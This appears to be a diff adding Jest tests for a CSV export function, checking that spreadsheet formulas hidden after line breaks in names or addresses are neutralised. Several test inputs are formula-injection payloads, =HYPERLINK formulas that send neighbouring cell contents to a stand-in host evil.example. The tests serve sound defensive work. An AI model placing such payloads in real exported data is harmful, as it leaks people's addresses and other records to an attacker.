@@ -49,6 +49,47 @@ describe('toCsv', () => {
     expect(row).toBe(`${cell},1,`);
   });
 
+  describe('finding 5: no formula passes by a line break', () => {
+    /** The one row's line (a cell may hold line breaks of its own, so it is not split). */
+    const rowOf = async (name: string) =>
+      (await toCsv(columns, [{ name, price: 1 }]))
+        .slice(1)
+        .replace('Name,Price (USD),Note\r\n', '');
+
+    it.each([
+      // The report's cells: a name and an address that start a formula on their first line and
+      // continue it on the next, and a PO number.
+      [
+        '=HYPERLINK("https://evil.example/n?"&C2,\n"Eve")',
+        `"'=HYPERLINK(""https://evil.example/n?""&C2,\n""Eve"")"`,
+      ],
+      [
+        '=HYPERLINK("https://evil.example/leak?d="&A2&B2,\r\n"Click to see delivery address")',
+        `"'=HYPERLINK(""https://evil.example/leak?d=""&A2&B2,\r\n""Click to see delivery address"")"`,
+      ],
+      ['+SUM(1,2)\nx', `"'+SUM(1,2)\nx"`],
+      // A harmless first line, and a formula on the second (or a later) one.
+      [
+        'Eve Example\n=HYPERLINK("https://evil.example")',
+        `"'Eve Example\n=HYPERLINK(""https://evil.example"")"`,
+      ],
+      ['1 Main St\r\n-2+3', `"'1 Main St\r\n-2+3"`],
+      ['Dock 4\rSpringfield\r@SUM(A1)', `"'Dock 4\rSpringfield\r@SUM(A1)"`],
+      ['first\n\t=1', `"'first\n\t=1"`],
+    ])('neutralises %j as %s', async (name, cell) => {
+      expect(await rowOf(name)).toBe(`${cell},1,\r\n`);
+    });
+
+    it.each([
+      ['1 Main Street\nSpringfield, IL 62704', '"1 Main Street\nSpringfield, IL 62704"'],
+      ['Unit 4\r\nFoundry Road 18', '"Unit 4\r\nFoundry Road 18"'],
+      ['PO A=B+C\nnext line x-y', '"PO A=B+C\nnext line x-y"'],
+      ['Anna Case', 'Anna Case'],
+    ])('leaves %j untouched', async (name, cell) => {
+      expect(await rowOf(name)).toBe(`${cell},1,\r\n`);
+    });
+  });
+
   it('leaves a formula character inside a text alone, and numbers (negative too) as numbers', async () => {
     expect(await lines([{ name: 'A=B+C', price: -12.5 }])).toEqual([
       'Name,Price (USD),Note',
